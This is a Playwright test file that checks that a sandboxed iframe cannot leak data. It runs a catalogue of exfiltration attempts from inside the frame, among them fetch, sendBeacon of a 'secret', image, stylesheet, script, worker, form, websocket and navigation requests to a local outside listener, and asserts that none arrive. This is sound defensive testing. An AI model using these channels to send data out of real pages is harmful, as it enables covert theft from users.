/** The walled frame's own walls, as if an attacker had got out of its worker. */
import { expect, type Frame, type Page, test } from "@playwright/test";
import { AttackPage } from "../../support/attack-page.ts";
import { listenOutside, type OutsideListener } from "../../support/outside-listener.ts";

/** Run in the frame; each gets an address of its own and resolves when it has had its chance. */
const attempts: Readonly<Record<string, (url: string) => unknown>> = {
  fetch: (url) => fetch(url, { mode: "no-cors" }),
  beacon: (url) => navigator.sendBeacon(url, "secret"),
  image: (url) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = url;
    }),
  "inline-style": (url) => {
    document.body.setAttribute("style", `background: url(${url})`);
  },
  "style-sheet": (url) => {
    const style = document.createElement("style");
    style.textContent = `@import url(${url}); body { background: url(${url}) }`;
    document.head.append(style);
  },
  "linked-style": (url) =>
    new Promise((resolve) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.onload = link.onerror = resolve;
      link.href = url;
      document.head.append(link);
    }),
  prefetch: (url) => {
    for (const rel of ["prefetch", "preload", "modulepreload"]) {
      const link = Object.assign(document.createElement("link"), { rel, href: url });
      link.setAttribute("as", "script");
      document.head.append(link);
    }
  },
  script: (url) =>
    new Promise((resolve) => {
      const script = document.createElement("script");
      script.onload = script.onerror = resolve;
      script.src = url;
      document.head.append(script);
    }),
  media: (url) =>
    new Promise((resolve) => {
      const video = document.createElement("video");
      video.onerror = resolve;
      video.src = url;
    }),
  "nested-frame": (url) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: url }));
  },
  object: (url) => {
    document.body.append(Object.assign(document.createElement("object"), { data: url }));
  },
  worker: (url) => void new Worker(url),
  form: (url) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: url });
    document.body.append(form);
    form.submit();
  },
  "open-window": (url) => window.open(url),
  "top-navigation": (url) => {
    if (window.top) window.top.location.href = url;
  },
  websocket: (url) =>
    new Promise((resolve) => {
      new WebSocket(url.replace("http", "ws")).onerror = resolve;
    }),
};

test.describe.configure({ mode: "serial", timeout: 60_000 });

let outside: OutsideListener;
let page: Page;
let frame: Frame;
let origins: readonly string[];
const finished: string[] = [];

test.beforeAll(async ({ browser, baseURL }) => {
  outside = await listenOutside();
  page = await browser.newPage({ baseURL: baseURL ?? "" });
  page.on("requestfinished", (request) => finished.push(request.url()));
  const lesson = await AttackPage.open(page, { attack: "" });
  await lesson.button("GET /ping").click();
  const walled = page.frames().find((candidate) => candidate !== page.mainFrame());
  if (!walled) throw new Error("the page has no sandbox frame");
  frame = walled;
  origins = [outside.origin, new URL(baseURL ?? "").origin];
});

test.afterAll(async () => {
  await page.close();
  await outside.close();
});

const settled = (work: Promise<unknown>) => Promise.race([work.catch(() => undefined), page.waitForTimeout(1_500)]);

for (const [name, attempt] of Object.entries(attempts)) {
  test(`${name} from the frame reaches neither another origin nor the site's own`, async () => {
    for (const origin of origins) await settled(frame.evaluate(attempt, `${origin}/from-the-frame/${name}`));
    expect(outside.arrivals.filter((path) => path.endsWith(`/${name}`))).toEqual([]);
    expect(finished.filter((url) => url.endsWith(`/from-the-frame/${name}`))).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect(new URL(page.url()).pathname).toBe("/lessons/exhaustion/");
  });
}

test("the frame sees neither the page's document nor its storage", async () => {
  const seen = await frame.evaluate(() => {
    const looks: Record<string, () => unknown> = {
      document: () => window.parent.document.title,
      localStorage: () => localStorage.length,
      sessionStorage: () => sessionStorage.length,
      cookie: () => document.cookie,
      href: () => window.parent.location.href,
    };
    return Object.entries(looks).flatMap(([name, look]) => {
      try {
        look();
        return [name];
      } catch {
        return [];
      }
    });
  });
  expect(seen).toEqual([]);
});

test("navigating the frame itself reaches no other origin", async () => {
  await settled(frame.evaluate((url) => location.assign(url), `${outside.origin}/from-the-frame/navigation`));
  await page.waitForTimeout(500);
  expect(outside.arrivals).not.toContain("/from-the-frame/navigation");
});
